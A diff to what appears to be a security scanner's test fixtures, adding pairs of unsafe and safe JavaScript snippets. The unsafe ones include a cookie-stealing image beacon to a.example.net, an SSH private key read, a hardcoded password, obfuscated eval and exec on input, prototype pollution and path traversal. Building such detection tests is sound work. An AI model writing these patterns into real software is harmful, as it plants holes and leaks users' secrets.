@@ -437,9 +437,44 @@ export const furtherTwins: Twin[] = [
     safe: `exports.f = (x) => [].concat(x);`,
   },
   {
+    family: "tls-crypto",
+    unsafe: `export function newSessionToken() { return Math.random().toString(36).slice(2); }`,
+    safe: `import { randomBytes } from "node:crypto"; export function newSessionToken() { return randomBytes(16).toString("hex"); } export function jitter() { return Math.random(); }`,
+  },
+  {
+    family: "secret",
+    unsafe: `export function enter(password) { return password === "open-sesame-7"; }`,
+    safe: `export function enter(kind) { return kind === "open-sesame-7"; }`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `import { readFileSync } from "node:fs"; export const f = () => readFileSync("/home/app/.ssh/id_ed25519", "utf8");`,
+    safe: `import { readFileSync } from "node:fs"; export const f = () => readFileSync("/home/app/.ssh/known_hosts", "utf8");`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `export function track() { const i = new Image(); i.src = "https://a.example.net/?c=" + document.cookie; }`,
+    safe: `export function track() { const i = new Image(); i.src = "https://a.example.net/?c=" + document.title; }`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `export const f = () => globalThis["ev" + "al"]("1");`,
+    safe: `export const f = (o) => o["na" + "me"]("1");`,
+  },
+  {
+    family: "proto-pollution",
+    unsafe: `export function put(o, path, v) { const parts = path.split("."); let at = o; for (const p of parts.slice(0, -1)) at = at[p]; at[parts[parts.length - 1]] = v; }`,
+    safe: `export function put(o, path, v) { const parts = path.split("."); if (parts.some((p) => ["__proto__", "constructor", "prototype"].includes(p))) throw new Error("no"); let at = o; for (let i = 0; i < parts.length - 1; i++) at = at[parts[i]]; at[parts[parts.length - 1]] = v; }`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `import path from "node:path"; import { readFile } from "node:fs/promises"; export const read = (file) => readFile(path.resolve("/srv", file));`,
+    safe: `import path from "node:path"; import { readFile } from "node:fs/promises"; export const read = (file) => { const full = path.resolve("/srv", file); const inner = path.relative("/srv", full); if (inner.startsWith("..") || path.isAbsolute(inner)) throw new Error("outside"); return readFile(full); };`,
+  },
+  {
     family: "command",
     unsafe: `const name = "child" + "_process"; exports.f = (x) => require(name)["ex" + "ec"](x);`,
-    safe: `const name = "child" + "_process"; exports.f = () => require(name)["ex" + "ec"]("ls");`,
+    safe: `const name = "child" + "_process"; exports.f = () => require(name).exec("ls");`,
   },
   {
     family: "command",
